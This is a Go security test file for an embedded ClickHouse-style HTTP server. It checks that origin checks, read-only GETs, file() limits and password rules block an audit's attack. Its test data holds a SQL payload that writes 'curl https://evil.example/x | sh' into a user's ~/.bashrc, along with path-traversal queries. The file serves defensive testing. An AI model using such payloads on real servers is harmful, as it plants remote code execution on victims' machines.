package chserver_test

import (
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/driftwatch/driftwatch/internal/testenv"
)

// send makes one request to the server at addr and returns its status and
// body.
func send(t *testing.T, method, addr, sql, body string, header http.Header) (int, string) {
	t.Helper()
	u := "http://" + addr + "/?query=" + url.QueryEscape(sql)
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, u, rd)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, sql, err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b)
}

// TestAuditRequestRefused replays the audit's attack on a server left
// running: a web page makes the browser send a GET with its Origin and an
// INSERT INTO FUNCTION file() aimed at the user's ~/.bashrc. It must be
// refused and write nothing, by each guard on its own (Origin, GET
// read-only, file() refused), while POSTs from clients without an Origin
// or with an allowed one still write.
func TestAuditRequestRefused(t *testing.T) {
	lib := testenv.Env(t, "CHDB_LIB_PATH", "path of libchdb.so (run `make deps`)")
	bin := buildServer(t)
	home := t.TempDir()
	bashrc := filepath.Join(home, ".bashrc")
	const original = "export PATH=$HOME/bin:$PATH\n"
	if err := os.WriteFile(bashrc, []byte(original), 0o644); err != nil {
		t.Fatal(err)
	}
	absent := filepath.Join(home, ".profile")
	addr := freeAddr(t)
	shared, startDir := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(startDir, "probe.csv"), []byte("1,2\n3,4\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd, out := startServerIn(t, startDir, bin, "-http", addr, "-path", t.TempDir(), "-lib", lib, "-allowed-origins", "https://ok.example", "-user-files", shared)
	defer stopServer(t, cmd, out)

	evil := http.Header{"Origin": {"https://evil.example"}}
	ok := http.Header{"Origin": {"https://ok.example"}}
	attack := func(path string) string {
		return "INSERT INTO FUNCTION file('" + path + "', 'LineAsString', 's String') SELECT 'curl https://evil.example/x | sh'"
	}
	for _, tc := range []struct {
		name, method, sql string
		header            http.Header
		wantCode          string
	}{
		{"the audit's request: GET with a foreign Origin", http.MethodGet, attack(bashrc), evil, "Code: 497"},
		{"the audit's request to a new file", http.MethodGet, attack(absent), evil, "Code: 497"},
		{"GET without Origin (an <img src>)", http.MethodGet, attack(bashrc), nil, "Code: 164"},
		{"POST with a foreign Origin", http.MethodPost, attack(absent), evil, "Code: 497"},
		{"POST from an allowed origin still may not use file()", http.MethodPost, attack(bashrc), ok, "Code: 497"},
		{"POST without Origin may not use file()", http.MethodPost, attack(absent), nil, "Code: 497"},
		{"reading a path as a table", http.MethodPost, "SELECT * FROM `" + bashrc + "`", nil, "Code: 497"},
		{"INTO OUTFILE", http.MethodPost, "SELECT 'x' INTO OUTFILE '" + absent + "'", nil, "Code: 497"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, body := send(t, tc.method, addr, tc.sql, "", tc.header)
			if status != http.StatusForbidden || !strings.Contains(body, tc.wantCode) {
				t.Errorf("status %d, body %q; want 403 with %s", status, body, tc.wantCode)
			}
		})
	}
	if b, err := os.ReadFile(bashrc); err != nil || string(b) != original {
		t.Errorf(".bashrc changed: %q, %v", b, err)
	}
	if _, err := os.Stat(absent); !os.IsNotExist(err) {
		t.Errorf("%s was created (stat: %v)", absent, err)
	}

	query(t, addr, "CREATE TABLE kept (i UInt32) ENGINE = MergeTree ORDER BY i", nil)
	for _, tc := range []struct {
		name, method, sql, body string
		header                  http.Header
		wantStatus              int
	}{
		{"GET INSERT without Origin is read-only", http.MethodGet, "INSERT INTO kept VALUES (10)", "", nil, http.StatusForbidden},
		{"GET WITH … INSERT is read-only", http.MethodGet, "WITH 11 AS x INSERT INTO kept SELECT x", "", nil, http.StatusForbidden},
		{"GET DDL is read-only", http.MethodGet, "DROP TABLE kept", "", nil, http.StatusForbidden},
		{"POST INSERT from a foreign origin", http.MethodPost, "INSERT INTO kept VALUES (12)", "", evil, http.StatusForbidden},
		{"POST INSERT from an allowed origin", http.MethodPost, "INSERT INTO kept VALUES (1)", "", ok, http.StatusOK},
		{"POST INSERT without Origin (clickhouse-go, curl)", http.MethodPost, "INSERT INTO kept FORMAT CSV", "2\n", nil, http.StatusOK},
		{"GET SELECT without Origin", http.MethodGet, "SELECT 1", "", nil, http.StatusOK},
		{"POST file() inside -user-files", http.MethodPost, "INSERT INTO FUNCTION file('" + filepath.Join(shared, "export.csv") + "', 'CSV', 'i UInt32') SELECT 7", "", nil, http.StatusOK},
		{"POST file() escaping -user-files", http.MethodPost, "SELECT * FROM file('" + shared + "/../" + filepath.Base(bashrc) + "', 'LineAsString')", "", nil, http.StatusForbidden},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, body := send(t, tc.method, addr, tc.sql, tc.body, tc.header)
			if status != tc.wantStatus {
				t.Errorf("status %d (%q), want %d", status, body, tc.wantStatus)
			}
		})
	}
	// The engine enforces read-only GETs too (readonly 2, as ClickHouse),
	// whatever readonly the URL asks for.
	for _, params := range []string{"", "&readonly=0"} {
		res, err := http.Get("http://" + addr + "/?query=" + url.QueryEscape("SELECT getSetting('readonly')") + params)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusOK || string(b) != "2\n" {
			t.Errorf("GET%s: readonly is %q (status %d), want 2", params, b, res.StatusCode)
		}
	}
	if got := query(t, addr, "SELECT getSetting('readonly')", nil); got != "0\n" {
		t.Errorf("POST after GETs: readonly is %q, want 0 (the session was not reset)", got)
	}
	// An unknown bare table name is a file relative to the engine's
	// working directory: the data directory, not where it was started
	// (startDir, holding probe.csv).
	if status, body := send(t, http.MethodPost, addr, "SELECT count() FROM `probe.csv`", "", nil); status == http.StatusOK {
		t.Errorf("a table named after a file in the server's start directory was read: %q", body)
	}
	if b, err := os.ReadFile(filepath.Join(shared, "export.csv")); err != nil || string(b) != "7\n" {
		t.Errorf("file() inside -user-files wrote %q, %v; want \"7\\n\"", b, err)
	}
	if got := query(t, addr, "SELECT groupArray(i) FROM (SELECT i FROM kept ORDER BY i)", nil); got != "[1,2]\n" {
		t.Errorf("kept holds %q, want [1,2]: only the two allowed POSTs write", got)
	}
}

// TestNonLoopbackNeedsPassword checks that the server refuses to listen on
// every interface without a password, and with one requires it (basic
// auth or X-ClickHouse-Key) from every client.
func TestNonLoopbackNeedsPassword(t *testing.T) {
	lib := testenv.Env(t, "CHDB_LIB_PATH", "path of libchdb.so (run `make deps`)")
	bin := buildServer(t)
	port := freeAddr(t)[len("127.0.0.1:"):]
	open := "0.0.0.0:" + port
	c := exec.Command(bin, "-http", open, "-path", t.TempDir(), "-lib", lib)
	c.Env = testenv.ChildEnv("CLICKHOUSE_PASSWORD=", "DRIFTWATCH_CLICKHOUSE_EMBEDDED_PASSWORD=")
	b, err := c.CombinedOutput()
	if err == nil || !strings.Contains(string(b), "not a loopback address and no password is set") {
		t.Fatalf("want a refusal naming the missing password, got %v:\n%s", err, b)
	}

	cmd, out := startServer(t, bin, "-http", open, "-path", t.TempDir(), "-lib", lib, "-password", "s3cret")
	defer stopServer(t, cmd, out)
	addr := "127.0.0.1:" + port
	if status, body := send(t, http.MethodPost, addr, "SELECT 1", "", nil); status != http.StatusUnauthorized {
		t.Errorf("without credentials: status %d (%q), want 401", status, body)
	}
	if status, body := send(t, http.MethodPost, addr, "SELECT 1", "", http.Header{"X-Clickhouse-User": {"default"}, "X-Clickhouse-Key": {"s3cret"}}); status != http.StatusOK {
		t.Errorf("with X-ClickHouse-Key: status %d (%q), want 200", status, body)
	}
	req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/?query=SELECT+1", nil)
	req.SetBasicAuth("default", "s3cret")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Errorf("with basic auth: status %d, want 200", res.StatusCode)
	}
}
